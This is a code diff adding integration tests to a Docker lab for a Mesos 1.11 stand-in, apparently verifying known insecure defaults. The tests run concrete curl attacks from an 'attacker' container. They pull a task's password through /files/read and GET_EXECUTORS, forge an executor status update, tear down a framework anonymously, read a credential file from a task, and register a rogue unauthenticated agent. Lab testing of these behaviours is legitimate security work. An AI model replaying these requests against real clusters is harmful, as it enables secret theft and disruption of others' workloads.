@@ -7,6 +7,7 @@ import crypto from "node:crypto";
 import Docker from "dockerode";
 import forge from "node-forge";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { pollUntil } from "../helpers/wait.js";
 import { Lab, type PlacedFile, type Running } from "./docker-helpers.js";
 import { ensureStandinImages, type StandinImages } from "./image.js";
 
@@ -533,6 +534,123 @@ describe.skipIf(!mustRun)("Mesos stand-in in Docker", () => {
         /EXIT with status 1: Failed to create a containerizer: Could not create MesosContainerizer: Failed to create launcher: Failed to create Linux launcher: Failed to create root cgroup \/sys\/fs\/cgroup\/freezer\/mesos: .*Read-only file system/,
       );
     }
+  }, 90_000);
+
+  it("1.11 attack surfaces: /files and GET_EXECUTORS give a task's secret away, a tokenless executor UPDATE is forwarded, an anonymous teardown removes a framework for good; process 1 beside a task is the agent", async () => {
+    await master("master-atk", 130, "atk", {}, [], images111);
+    const a = await agent("agent-atk", 131, "atk", {}, [], images111);
+    await a.waitFor(/Registered with master/);
+    // the attacker's host: the execute image, as the lab's is (its curl, sh, grep, cut). The agent is this image's
+    // entrypoint, mesos-slave (the lab starts mesos-agent)
+    const attacker = await lab.start({ name: "attacker-atk", image: images111.execute, host: 139, cmd: ["sleep", "600"] });
+    const sh = (cmd: string) => attacker.exec(["sh", "-c", cmd]);
+    const agentUrl = `http://${lab.ip(131)}:5051`;
+    const v = await execute(
+      "exec-atk-payroll",
+      132,
+      "atk",
+      ["--name=payroll", '--env={"DB_PASSWORD":"s3cr3t"}', "--command=echo DB_PASSWORD=$DB_PASSWORD; tr '\\0' ' ' < /proc/1/cmdline; echo; sleep 600"],
+      {},
+      [],
+      images111,
+    );
+    await v.waitFor(/Received status update TASK_RUNNING for task 'payroll'/);
+
+    // /files/debug lists the attached runs (keys sorted), the virtual `latest` path first; /files/read serves it
+    const debug = JSON.parse(await sh(`curl -s ${agentUrl}/files/debug`)) as Record<string, string>;
+    const latest = Object.keys(debug).find((k) => /^\/frameworks\/[^/]+\/executors\/payroll\/runs\/latest$/.test(k));
+    expect(latest, JSON.stringify(debug)).toBe(Object.keys(debug)[0]);
+    expect(Object.values(debug)).toEqual([debug[latest!], debug[latest!], debug[latest!]]);
+    const read = await pollUntil(
+      () => sh(`curl -si "${agentUrl}/files/read?path=${latest}/stdout&offset=0"`),
+      (r) => r.includes("mesos-slave"),
+      { timeoutMs: 10_000, everyMs: 200, failure: (r) => `the task's stdout never showed process 1: ${r}` },
+    );
+    expect(read).toMatch(/^HTTP\/1\.1 200 OK\r?$/m);
+    expect(read).toMatch(/^\{"data":"DB_PASSWORD=s3cr3t\\nmesos-slave +\\n","offset":0\}$/m);
+    await a.waitFor(
+      /http\.cpp:1436\] HTTP GET for \/files\/read\?offset=0&path=%2Fframeworks%2F\S+%2Fexecutors%2Fpayroll%2Fruns%2Flatest%2Fstdout from [\d.]+\.139:\d+ with User-Agent='curl\/7\.88\.1'/,
+    );
+    expect(await sh(`curl -si "${agentUrl}/files/read?path=/etc/passwd&offset=0"`)).toMatch(/^HTTP\/1\.1 404 Not Found/);
+
+    // the agent's operator API (read-write realm, open): the executor's command carries the task's environment
+    const executors = await sh(`curl -s -X POST -H 'Content-Type: application/json' -d '{"type":"GET_EXECUTORS"}' ${agentUrl}/api/v1`);
+    expect(executors).toContain('"name":"DB_PASSWORD","type":"VALUE","value":"s3cr3t"');
+    expect(executors).toContain(`"name":"Command Executor (Task: payroll) (Command: sh -c 'echo DB_PASS...')"`);
+    await a.waitFor(/http\.cpp:1775\] Processing GET_EXECUTORS call/);
+
+    // a status update as the task's executor, from anyone: 202 and forwarded; the UUID must be one stout knows
+    const fid = latest!.split("/")[2]!;
+    const update = (uuid: string) =>
+      JSON.stringify({
+        type: "UPDATE",
+        framework_id: { value: fid },
+        executor_id: { value: "payroll" },
+        update: { status: { task_id: { value: "payroll" }, state: "TASK_KILLED", source: "SOURCE_EXECUTOR", uuid, message: "forged" } },
+      });
+    const post = (body: string) => sh(`curl -si -X POST -H 'Content-Type: application/json' -d '${body}' '${agentUrl}/slave(1)/api/v1/executor'`);
+    expect(await post(update(Buffer.alloc(16, 0).toString("base64")))).toMatch(
+      /^HTTP\/1\.1 400 Bad Request[\s\S]*Failed to validate Executor::Call: Not a valid UUID$/m,
+    );
+    expect(await post(update("uJs8qm9WTCCOGX3OwJeiDQ=="))).toMatch(/^HTTP\/1\.1 202 Accepted\r?$/m);
+    expect(await v.exitCode()).toBe(0);
+    expect(v.stdout).toContain("Received status update TASK_KILLED for task 'payroll'\n  message: 'forged'\n  source: SOURCE_EXECUTOR");
+
+    // an anonymous teardown: the framework is removed, and its scheduler cannot subscribe again
+    const w = await execute("exec-atk-victim", 133, "atk", ["--name=victim", "--command=sleep 600"], {}, [], images111);
+    await w.waitFor(/Received status update TASK_RUNNING for task 'victim'/);
+    const victim = /^Subscribed with ID (\S+)$/m.exec(w.stdout)![1]!;
+    expect(await sh(`curl -si -X POST -d "frameworkId=${victim}" http://${lab.ip(130)}:5050/master/teardown`)).toMatch(/^HTTP\/1\.1 200 OK\r?$/m);
+    expect(await w.exitCode()).toBe(1);
+    expect(w.stderr).toMatch(
+      /scheduler\.cpp:818\] End-Of-File received from master\. The master closed the event stream\n[\s\S]*execute\.cpp:674\] EXIT with status 1: Received an ERROR event: Framework has been removed/,
+    );
+  }, 90_000);
+
+  it("1.11 an agent that switches users runs a task as the user it asks for; a rogue agent started with nohup registers, and pkill -x mesos-agent ends it", async () => {
+    const m = await master("master-su", 140, "su", {}, [], images111);
+    const a = await agent(
+      "agent-su",
+      141,
+      "su",
+      { MESOS_SWITCH_USER: "true" },
+      [{ path: "/etc/credentials/credential.json", content: '{"principal":"p","secret":"s"}', mode: 0o600 }],
+      images111,
+    );
+    await a.waitFor(/Registered with master/);
+    const task = (user?: string) =>
+      JSON.stringify({
+        name: "steal",
+        task_id: { value: "steal" },
+        agent_id: { value: "" },
+        resources: [
+          { name: "cpus", type: "SCALAR", scalar: { value: 0.1 } },
+          { name: "mem", type: "SCALAR", scalar: { value: 32 } },
+        ],
+        command: { value: "id; cat /etc/credentials/credential.json", ...(user ? { user } : {}) },
+      });
+    const x = await execute("exec-su", 142, "su", [`--task=${task("nobody")}`], {}, [], images111);
+    expect(await x.exitCode()).toBe(0);
+    expect(x.stdout).toContain("Received status update TASK_FAILED for task 'steal'\n  message: 'Command exited with status 1'");
+    await a.waitFor(/paths\.cpp:832\] Creating sandbox '\S+\/executors\/steal\/runs\/\S+' for user 'nobody'/);
+    const run = "/var/tmp/mesos/slaves/*/frameworks/*/executors/steal/runs/latest";
+    expect(await a.exec(["sh", "-c", `cat ${run}/stdout`])).toBe("uid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)\n");
+    expect(await a.exec(["sh", "-c", `cat ${run}/stderr`])).toContain("\ncat: /etc/credentials/credential.json: Permission denied\n");
+    expect(await a.exec(["sh", "-c", `stat -c '%U:%G %a' $(readlink -f ${run})`])).toBe("nobody:nogroup 750\n");
+    // no user asked for: the framework's, root
+    const y = await execute("exec-su-root", 143, "su", [`--task=${task()}`], {}, [], images111);
+    expect(await y.exitCode()).toBe(0);
+    expect(y.stdout).toContain("Received status update TASK_FINISHED for task 'steal'");
+    await a.waitFor(/paths\.cpp:832\] Creating sandbox '\S+\/executors\/steal\/runs\/\S+' for user 'root'/);
+
+    const attacker = await lab.start({ name: "attacker-su", image: images111.execute, host: 149, cmd: ["sleep", "600"] });
+    const env = `MESOS_MASTER=zk://zk:2181/su MESOS_WORK_DIR=/var/tmp/rogue MESOS_LAUNCHER=posix MESOS_SWITCH_USER=false MESOS_HOSTNAME=rogue MESOS_PORT=5151 LIBPROCESS_IP=${lab.ip(149)}`;
+    await attacker.exec(["sh", "-c", `env ${env} nohup mesos-agent >/tmp/rogue.log 2>&1 &`]);
+    await m.waitFor(new RegExp(`master\\.cpp:6535\\] Registered agent \\S+ at slave\\(1\\)@${lab.ip(149).replace(/\./g, "\\.")}:5151 \\(rogue\\) with `));
+    expect(await attacker.exec(["sh", "-c", "grep -c 'No credentials provided. Attempting to register without authentication' /tmp/rogue.log"])).toBe("1\n");
+    expect(await attacker.exec(["sh", "-c", "pkill -x mesos-agent; echo rc=$?"])).toBe("rc=0\n");
+    await m.waitFor(/master\.cpp:1347\] Agent \S+ at slave\(1\)@[\d.]+:5151 \(rogue\) disconnected/);
+    expect(await attacker.exec(["sh", "-c", "pkill -x no-such-process; echo rc=$?"])).toBe("rc=1\n");
   }, 90_000);
 
   it("test knobs and an unreachable ZooKeeper", async () => {
